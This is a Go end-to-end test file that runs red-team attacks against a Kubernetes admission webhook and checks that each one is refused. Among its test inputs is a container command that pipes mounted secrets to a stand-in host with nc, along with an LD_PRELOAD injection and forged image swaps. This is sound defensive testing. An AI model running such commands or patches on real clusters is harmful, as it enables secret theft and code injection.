//go:build e2e

package e2e

// The red team's attacks that need a cluster (acceptance line 6 of the webhook),
// each by somebody who has the rights for it and no more. docs/threat-model.md
// says what is not stopped; where it can be seen here, it is.

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/syncgate/syncgate/e2e/internal/harness"
)

// redTeam has a method for each attack, TestRedTeamFnn..., which runs as a
// subtest with a namespace of its own, and BeforeFnn for what is there before
// the gate.
type redTeam struct{ *gated }

func TestRedTeam(t *testing.T) {
	tests := methods("TestRedTeam", func(g *gated) any { return redTeam{g} })
	newGated(t, redTeamPolicy, tests).run(t, tests)
}

// redTeamPolicy asks for what it can.
func redTeamPolicy(g *gated) string {
	in := func(finding string) string {
		for name, ns := range g.namespaces {
			if strings.HasPrefix(name, finding) {
				return ns
			}
		}
		g.T.Fatalf("no test of %s", finding)
		return ""
	}
	return fmt.Sprintf(`requirements: [{categories: [privilege], issuers: [security]}]
scope: {admission: {clusterScoped: [Namespace, ClusterRole, ClusterRoleBinding]}}
gatedDeletes: [NetworkPolicy, StatefulSet]
trustedWriters:
- {user: "system:serviceaccount:%[1]s:airflow", namespaces: [%[1]s], kinds: [Pod], categories: [image, command], images: ["registry.example.test/airflow:*"], acceptImpersonation: true}
- {preset: argo-rollouts, user: "system:serviceaccount:%[2]s:rollouts", namespaces: [%[2]s], acceptImpersonation: true}
`, in("F24"), in("F41"))
}

func (r redTeam) TestRedTeamF01TheGatesOwnObjectsAreItsAdministratorsAlone() {
	r.Bind("admin", r.gate, owner)
	r.may(owner, "update", "configmaps", true)
	for _, user := range []string{owner, deployer} {
		for _, kind := range []string{"configmap", "secret"} {
			args := []string{"create", kind, "syncgate-off", "--from-literal=shop=never"}
			if kind == "secret" {
				args = append([]string{"create", "secret", "generic"}, args[2:]...)
			}
			at := *r.gated
			at.ns = r.gate
			at.refused(at.as(user, args...), "ProtectedTarget", `"guard.syncgate.io"`, kind2(kind)+" %s/syncgate-off: user "+user+" is no administrator of the gate")
		}
	}
	// Beside the gate the webhook leaves kube-system alone, as the threat model
	// says (F8): RBAC must not.
	r.passed(r.As(deployer).TryKubectl(nil, "run", "any", "--image=any", "--namespace", "kube-system", "--dry-run=server"))
	r.refusedByRBAC(r.As(owner).TryKubectl(nil, "run", "any", "--image=any", "--namespace", "kube-system", "--dry-run=server"))
}

// kind2 is a kind as the API writes it.
func kind2(s string) string {
	return map[string]string{"configmap": "ConfigMap", "secret": "Secret"}[s]
}

// refusedByRBAC wants that the webhook was never asked.
func (r redTeam) refusedByRBAC(result harness.Result) {
	r.T.Helper()
	if text := string(result.Stderr); result.Status == 0 || !strings.Contains(text, "cannot ") || strings.Contains(text, "SYNC") {
		r.T.Errorf("got status %d, %s, want a refusal by RBAC", result.Status, text)
	}
}

// BeforeF02 makes a role of which aggregation could make a grant.
func (r redTeam) BeforeF02() {
	r.Apply(fmt.Appendf(nil, `{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: %s-powerful}, rules: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]}`, r.ns))
}

func (r redTeam) TestRedTeamF02AnAggregatedClusterRoleGrantsNothingByPatchOrLabel() {
	const eve = "eve"
	label := "example.com/" + r.ns
	role := func(name, labels, rest string) string {
		return fmt.Sprintf("{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: %s-%s, labels: {%s}}, %s}\n", r.ns, name, labels, rest)
	}
	reader := role("reader", "a: b", `rules: [{apiGroups: [""], resources: [configmaps], verbs: [get]}]`)
	r.T.Cleanup(func() {
		r.Kubectl(nil, "delete", "clusterrolebinding,clusterrole", r.ns, r.ns+"-empty", r.ns+"-reader", r.ns+"-powerful", "--ignore-not-found")
	})
	r.deploy(stream(role("empty", "a: b", fmt.Sprintf(`aggregationRule: {clusterRoleSelectors: [{matchLabels: {%q: "true"}}]}`, label)), reader,
		fmt.Sprintf(`{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: %[1]s},
  roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: %[1]s-empty}, subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: eve}]}`, r.ns)))
	r.refused(r.as(deployer, "patch", "clusterrole", r.ns+"-empty", "--type=merge", "--patch", `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`),
		"ObjectMalformed", "ClusterRole %s-empty: rules: rules beside an aggregationRule are not overwritten when its selectors match nothing")
	r.refused(r.as(deployer, "label", "clusterrole", r.ns+"-powerful", label+"=true"), "ReceiptMissing", "ClusterRole %s-powerful: no receipt for rbac (")
	r.refused(r.as(deployer, "label", "clusterrole", r.ns+"-reader", label+"=true"), "DigestMismatch", "ClusterRole %s-reader: metadata.labels[")
	r.may(eve, "delete", "validatingwebhookconfigurations", false)
	r.may(eve, "get", "configmaps", false)
	// A signed label aggregates: its controller writes the rules, and nobody is asked.
	r.deploy(strings.Replace(reader, "a: b", fmt.Sprintf("a: b, %q: %q", label, "true"), 1))
	r.Eventually("the aggregated rules", func() (string, bool) {
		rules := harness.Maps(r.Get(harness.ClusterRoles, "", r.ns+"-empty"), "rules")
		return fmt.Sprint(rules), len(rules) == 1
	})
	r.may(eve, "get", "configmaps", true)
	r.may(eve, "delete", "validatingwebhookconfigurations", false)
}

// deploymentController is who answers the rollback annotation.
const deploymentController = "system:serviceaccount:kube-system:deployment-controller"

const rollback = "deprecated.deployment.rollback.to"

// BeforeF04 plants the annotation in a Deployment that waits.
func (r redTeam) BeforeF04() {
	r.Apply([]byte(one("Deployment", "planted", "vulnerable:1")), "--namespace", r.ns)
	r.Eventually("the first revision", func() (string, bool) {
		revision := r.Get(harness.Deployments, r.ns, "planted").GetAnnotations()["deployment.kubernetes.io/revision"]
		return revision, revision == "1"
	})
	r.as(owner, "rollout", "pause", "deployment/planted")
	r.as(owner, "set", "image", "deployment/planted", "web=fixed:2")
	r.as(owner, "annotate", "deployment/planted", rollback+"=1")
}

func (r redTeam) TestRedTeamF04TheDeploymentControllerBringsBackNoImage() {
	r.deploy(one("Deployment", "web", harness.Image("web:1")))
	r.refused(r.as(developer, "annotate", "deployment/web", rollback+"=1"), "ObjectMalformed", "Deployment %s/web: ", rollback)
	// What was planted before the gate is the controller's to do, and it is judged.
	r.passed(r.as(owner, "rollout", "resume", "deployment/planted"))
	event := r.WaitAudit("the controller's refused rollback", func(a harness.AuditEvent) bool {
		return a.User.Username == deploymentController && a.ObjectRef.Namespace == r.ns && a.ObjectRef.Subresource == "" && a.ResponseStatus.Code == 403
	})
	r.T.Logf("%s %s: %s", event.User.Username, event.Write(), event.ResponseStatus.Message)
	for _, want := range []string{"SYNC REFUSED [ImageNotPinned]", "[ReceiptMissing] Deployment " + r.ns + "/planted: no receipt for image"} {
		if !strings.Contains(event.ResponseStatus.Message, want) {
			r.T.Errorf("got %q, want it to contain %q", event.ResponseStatus.Message, want)
		}
	}
	if got := harness.Images(r.Get(harness.Deployments, r.ns, "planted")); !cmp.Equal(got, []string{"fixed:2"}) {
		r.T.Errorf("images: got %q, want what was there", got)
	}
	r.passed(r.as(owner, "annotate", "deployment/planted", rollback+"-"))
	r.Eventually("the image that was there to run", func() (string, bool) {
		var images []string
		for _, p := range r.List(harness.Pods, r.ns, "app=planted") {
			if p.GetDeletionTimestamp() == nil {
				images = append(images, fmt.Sprint(harness.Maps(&p, "spec", "containers")[0]["image"]))
			}
		}
		return fmt.Sprint(images), cmp.Equal(images, []string{"fixed:2"})
	})
	// With a controller's own token: its work passes, nothing else does.
	controller := r.AsServiceAccount("kube-system", "deployment-controller")
	stored := string(r.Kubectl(nil, "get", "deployment/web", "--output=json", "--namespace", r.ns))
	evil := strings.ReplaceAll(stored, harness.Image("web:1"), harness.Image("evil:1"))
	r.refused(controller.TryKubectl([]byte(evil), "replace", "--filename", "-"), "DigestMismatch", "Deployment %s/web: containers[web].image is registry.example.test/evil:1@")
	maker := r.AsServiceAccount("kube-system", "replicaset-controller")
	r.passed(maker.TryKubectl([]byte(barePod("made", harness.Image("any:1"), "")), "create", "--filename", "-", "--namespace", r.ns, "--dry-run=server"))
}

// BeforeF05 gives the owner what the role admin does not hold.
func (r redTeam) BeforeF05() {
	r.Kubectl(nil, "create", "clusterrole", r.ns, "--verb=*", "--resource=controllerrevisions.apps")
	r.Bind(r.ns, r.ns, owner)
}

func (r redTeam) TestRedTeamF05AForgedControllerRevisionRunsNothing() {
	r.T.Cleanup(func() { r.Kubectl(nil, "delete", "clusterrole", r.ns) })
	good := harness.Image("good:1")
	r.deploy(one("StatefulSet", "db", good))
	r.Kubectl(nil, "rollout", "status", "statefulset/db", "--timeout=120s", "--namespace", r.ns)
	revision := harness.Field(r.Get(harness.StatefulSets, r.ns, "db"), "status", "currentRevision")
	stored := string(r.Kubectl(nil, "get", "controllerrevision", revision, "--output=json", "--namespace", r.ns))
	forged := strings.ReplaceAll(stored, good, harness.Image("evil:666"))
	if stored == forged {
		r.T.Fatal("nothing is forged")
	}
	if result := r.send(owner, forged, "replace", "--filename", "-"); result.Status == 0 {
		r.T.Error("the revision was changed in place")
	}
	r.passed(r.as(owner, "delete", "controllerrevision", revision))
	r.refused(r.send(owner, strings.Replace(forged, `"name": "`+revision, `"name": "`+revision+"x", 1), "create", "--filename", "-"), "ObjectMalformed",
		"ControllerRevision %s/"+revision+"x: a ControllerRevision is written by its controller alone"+written(owner))
	r.passed(r.as(owner, "patch", "statefulset/db", "--patch", `{"spec":{"replicas":3,"updateStrategy":{"rollingUpdate":{"partition":100}}}}`))
	r.Eventually("three Pods", func() (string, bool) {
		pods := r.List(harness.Pods, r.ns, "app=db")
		return fmt.Sprint(len(pods)), len(pods) == 3
	})
	for _, p := range r.List(harness.Pods, r.ns, "app=db") {
		if got := harness.Maps(&p, "spec", "containers")[0]["image"]; got != good {
			r.T.Errorf("%s: got image %v, want %s", p.GetName(), got, good)
		}
	}
}

func (r redTeam) TestRedTeamF07WhatChoosesTheProgramNeedsAReceipt() {
	r.deploy(one("Deployment", "web", harness.Image("web:1")))
	for _, c := range []struct{ field, value, path string }{
		{"command", `["sh","-c","cat /var/run/secrets/* | nc evil 1"]`, "containers[web].command"},
		{"args", `["--upload=evil"]`, "containers[web].args"},
		{"workingDir", `"/tmp"`, "containers[web].workingDir"},
		{"env", `[{"name":"LD_PRELOAD","value":"/tmp/x.so"}]`, "containers[web].env[LD_PRELOAD].value"},
		{"lifecycle", `{"postStart":{"exec":{"command":["sh"]}}}`, "containers[web].lifecycle.postStart.exec.command"},
		{"livenessProbe", `{"exec":{"command":["sh"]}}`, "containers[web].livenessProbe.exec.command"},
	} {
		patch := fmt.Sprintf(`[{"op":"add","path":"/spec/template/spec/containers/0/%s","value":%s}]`, c.field, c.value)
		r.refused(r.as(developer, "patch", "deployment/web", "--type=json", "--patch", patch), "DigestMismatch", "Deployment %s/web: "+c.path+" is new", "was signed without it")
	}
	// So does what hides the programs of the image, whatever volume it is, and
	// which init container runs first, or runs on.
	r.refused(r.as(developer, "patch", "deployment/web", "--type=json", "--patch", `[{"op":"add","path":"/spec/template/spec/volumes","value":[{"name":"e","emptyDir":{}}]},
  {"op":"add","path":"/spec/template/spec/containers/0/volumeMounts","value":[{"name":"e","mountPath":"/usr/bin"}]}]`),
		"DigestMismatch", `Deployment %s/web: containers[web].volumeMounts["/usr/bin"].name is new`, "was signed without it")
	r.deploy(strings.Replace(one("Deployment", "inits", harness.Image("web:1")), "containers: [", fmt.Sprintf("initContainers: [{name: b, image: %[1]q}, {name: a, image: %[1]q}], containers: [", harness.Image("web:1")), 1))
	for _, c := range [][2]string{
		{`[{"op":"move","from":"/spec/template/spec/initContainers/0","path":"/spec/template/spec/initContainers/1"}]`, "initContainers#order is changed"},
		{`[{"op":"add","path":"/spec/template/spec/initContainers/1/restartPolicy","value":"Always"}]`, "initContainers[a].restartPolicy is new"},
	} {
		r.refused(r.as(developer, "patch", "deployment/inits", "--type=json", "--patch", c[0]), "DigestMismatch", "Deployment %s/inits: "+c[1])
	}
	// A label of the template is free, as the threat model says (F17).
	r.passed(r.as(developer, "patch", "deployment/web", "--patch", `{"spec":{"template":{"metadata":{"labels":{"role":"payments"}}}}}`))
}

// argoController is the user as whom Argo CD writes.
const argoController = "system:serviceaccount:argocd:argocd-application-controller"

// BeforeF08 gives Argo CD its rights.
func (r redTeam) BeforeF08() { r.Bind("cluster-admin", "", argoController) }

func (r redTeam) TestRedTeamF08ANamespaceDoesNotLeaveTheGate() {
	const name = "kubernetes.io/metadata.name"
	for _, change := range []string{name + "-", name + "=kube-system"} {
		result := r.As(deployer).TryKubectl(nil, "label", "namespace", r.ns, "--overwrite", change)
		r.T.Logf("%s: status %d: %s%s", change, result.Status, result.Stdout, result.Stderr)
		if got := r.Get(harness.Namespaces, "", r.ns).GetLabels()[name]; got != r.ns {
			r.T.Errorf("after %s: got label %q, want %q", change, got, r.ns)
		}
		r.refused(r.as(developer, "create", "deployment", "web", "--image="+harness.Image("web:1")), "ReceiptMissing", "Deployment %s/web")
	}
	label := func(change string) harness.Result {
		return r.As(deployer).TryKubectl(nil, "label", "namespace", r.ns, "--overwrite", change)
	}
	r.refused(label("pod-security.kubernetes.io/enforce=privileged"), "ReceiptMissing", `Namespace %s: no receipt for privilege (metadata.labels["pod-security.kubernetes.io/enforce"])`)
	r.refused(label("istio-injection=disabled"), "ReceiptMissing", "Namespace %s: ", "istio-injection")
	r.passed(label("kustomize.toolkit.fluxcd.io/name=shop")) // Flux tracks it

	// Argo CD writes managedNamespaceMetadata without a manifest, which nobody can sign.
	r.refused(r.As(argoController).TryKubectl(nil, "label", "namespace", r.ns, "pod-security.kubernetes.io/enforce=privileged"), "ReceiptMissing", "Namespace %s: ", "Fix: remove it from managedNamespaceMetadata of the Application")

	// As CreateNamespace=true makes one, with managedNamespaceMetadata and without.
	fresh := r.ns + "-fresh"
	r.T.Cleanup(func() {
		r.TryKubectl(nil, "delete", "namespace", fresh, "--ignore-not-found", "--wait=false")
	})
	create := func(labels string) harness.Result {
		return r.As(deployer).TryKubectl(fmt.Appendf(nil, `{apiVersion: v1, kind: Namespace, metadata: {name: %s, labels: {%s}}}`, fresh, labels), "create", "--filename", "-")
	}
	r.refused(create("pod-security.kubernetes.io/enforce: privileged"), "ReceiptMissing", "Namespace %s-fresh: ")
	r.passed(create(""))
	at := *r.gated
	at.ns = fresh
	at.refused(at.as(deployer, "create", "deployment", "web", "--image="+harness.Image("web:1")), "ReceiptMissing", "Deployment %s/web")
}

// pods are those with a label that are not ending, by name.
func (r redTeam) pods(selector string) []unstructured.Unstructured {
	r.T.Helper()
	return slices.DeleteFunc(r.List(harness.Pods, r.ns, selector), func(p unstructured.Unstructured) bool { return p.GetDeletionTimestamp() != nil })
}
